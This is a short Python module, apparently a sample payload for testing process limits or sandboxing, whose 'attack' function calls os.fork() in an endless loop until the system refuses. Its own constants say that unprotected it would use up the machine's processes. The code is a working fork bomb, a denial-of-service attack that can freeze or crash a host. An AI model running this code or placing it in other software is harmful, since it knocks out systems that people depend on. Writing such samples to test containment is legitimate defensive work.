"""Starts processes that start processes without bound."""

CONTROL = "unprotected it would use up the machine's processes"
REACH = "one"

import os



def attack(*args, **kwargs):
    started = 0
    while True:
        try:
            os.fork()
            started += 1
        except OSError:
            return f"took {started} processes" if started else "no process starts"
